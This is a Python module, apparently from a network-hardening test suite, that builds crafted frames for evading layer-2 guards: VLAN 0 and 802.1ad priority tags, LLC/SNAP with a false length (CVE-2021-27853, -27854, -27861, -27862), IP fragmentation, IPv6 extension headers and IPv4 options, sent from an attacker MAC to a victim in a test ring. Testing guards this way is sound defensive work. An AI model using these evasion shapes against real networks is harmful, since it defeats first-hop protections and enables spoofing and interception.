# SPDX-FileCopyrightText: 2026 virtnet.hardening contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Shapes that hide a frame or packet from a guard: CVE-2021-27853, -27854, -27861 and -27862 (VLAN 0 and LLC/SNAP), fragments, headers."""

from __future__ import annotations

from typing import Callable, Sequence, Union

from . import frames as f
from .ring import Case, Ring

Build = Callable[[Ring, bytes], Union[bytes, Sequence[bytes]]]
PacketOf = Callable[[Ring], f.Packet]


def case(name: str, build: Build, source: str = "") -> Case:
    """An attack on the victim."""
    return Case(name, lambda ring: ring.strike(lambda token: build(ring, token)), source=source)


def frame(packet_of: PacketOf, to: str = f.ALL_NODES) -> Build:
    """Builds the frame around a packet, from the attacker's own MAC address."""
    return lambda ring, token: f.ether(ring.a.mac, to, packet_of(ring), token)


def to_victim(packet_of: PacketOf) -> Build:
    """The same, to the victim alone."""
    return lambda ring, token: f.ether(ring.a.mac, ring.v.mac, packet_of(ring), token)


def changed(build: Build, change: Callable[[bytes], bytes]) -> Build:
    """What else becomes of the frame."""

    def run(ring: Ring, token: bytes) -> bytes:
        made = build(ring, token)
        assert isinstance(made, bytes)
        return change(made)

    return run


def in_pieces(packet_of: PacketOf, first: int, to: str = f.ALL_NODES) -> Build:
    """An IPv6 packet cut behind C(first) bytes."""

    def build(ring: Ring, token: bytes) -> list[bytes]:
        parts = f.in_fragments(packet_of(ring), first)
        return [f.ether(ring.a.mac, to, part, token + bytes([number])) for number, part in enumerate(parts)]

    return build


def in_pieces4(packet_of: PacketOf, to: str = f.BROADCAST, first: int = 8) -> Build:
    """An IPv4 packet cut so that the first fragment shows no more than the ports."""

    def build(ring: Ring, token: bytes) -> list[bytes]:
        whole = packet_of(ring)
        head, body = f.IP(bytes(whole)), bytes(whole.payload)
        frames = []
        for number, (offset, data, more) in enumerate([(0, body[:first], 1), (first // 8, body[first:], 0)]):
            packet = f.IP(src=head.src, dst=head.dst, proto=head.proto, id=0x76, flags=more, frag=offset) / f.Raw(data)
            frames.append(f.ether(ring.a.mac, to, packet, token + bytes([number])))
        return frames

    return build


def with_options(packet_of: PacketOf, options: bytes = b"\x01" * 8) -> PacketOf:
    """IPv4 options move what is behind them."""

    def build(ring: Ring) -> f.Packet:
        packet = packet_of(ring)
        packet.options = [options]
        return packet

    return build


def behind(packet_of: PacketOf, *headers: f.Packet) -> PacketOf:
    """IPv6 headers before what a packet holds."""

    def build(ring: Ring) -> f.Packet:
        whole = packet_of(ring)
        packet = f.IPv6(src=whole.src, dst=whole.dst, hlim=whole.hlim)
        for header in (*headers, whole.payload):
            packet = packet / header
        return packet

    return build


def padding() -> f.Packet:
    """A destination option that does nothing."""
    return f.IPv6ExtHdrDestOpt(options=[f.PadN(optdata=b"\0" * 4)])


def hop_by_hop() -> f.Packet:
    """A hop-by-hop option that does nothing."""
    return f.IPv6ExtHdrHopByHop(options=[f.PadN(optdata=b"\0" * 4)])


def in_vlan_0(whole: bytes) -> bytes:
    """A priority tag."""
    return f.tagged(whole, (0x8100, 0))


def in_vlan_0_twice(whole: bytes) -> bytes:
    """Two of them."""
    return f.tagged(whole, (0x8100, 0), (0x8100, 0))


def in_provider_vlan_0(whole: bytes) -> bytes:
    """A priority tag of 802.1ad."""
    return f.tagged(whole, (0x88A8, 0))


def in_lying_snap(whole: bytes) -> bytes:
    """A length beyond the frame, and beyond what a length may be (CVE-2021-27861)."""
    return f.snapped(whole, 1530)


def in_vlan_0_and_snap(whole: bytes) -> bytes:
    """Both."""
    return f.tagged(f.snapped(whole), (0x8100, 0))
